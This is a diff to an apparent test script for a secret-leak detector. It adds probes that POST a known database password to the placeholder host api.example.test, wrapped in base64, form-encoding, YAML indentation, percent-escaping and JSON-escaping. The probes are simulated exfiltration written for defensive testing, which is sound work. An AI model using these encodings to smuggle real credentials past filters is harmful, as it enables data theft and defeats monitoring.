@@ -56,6 +56,9 @@ probe("known-secret-base64", get("api.example.test", http_port, "/upload", metho
 # Base64 wrapped at 76 columns (base64.encodebytes, GNU base64), the break inside the secret's form.
 dump = base64.encodebytes(b'{"host":"build-7","padding":"' + b"x" * 54 + b'","db_password":"' + known.encode() + b'"}\n')
 probe("known-secret-base64-wrapped", get("api.example.test", http_port, "/w", method=b"POST", body=dump))
+# The same, form-encoded (curl --data-urlencode: the breaks are %0A), and indented as in a YAML block.
+probe("known-secret-base64-wrapped-form", get("api.example.test", http_port, "/w", method=b"POST", body=b"d=" + dump.replace(b"\n", b"%0A").replace(b"+", b"%2B").replace(b"/", b"%2F")))
+probe("known-secret-base64-wrapped-indented", get("api.example.test", http_port, "/w", method=b"POST", body=b"data: |\n    " + dump.replace(b"\n", b"\n    ")))
 # One character percent-encoded, or JSON-escaped, is still the secret.
 probe("known-secret-partly-escaped", get("api.example.test", http_port, "/f", method=b"POST", body=b"pw=%" + format(ord(known[0]), "02x").encode() + known[1:].encode()))
 probe("known-secret-json-escaped", get("api.example.test", http_port, "/j", method=b"POST", body=b'{"k":"\\u00' + format(ord(known[0]), "02x").encode() + known[1:].replace("/", "\\/").encode() + b'"}'))
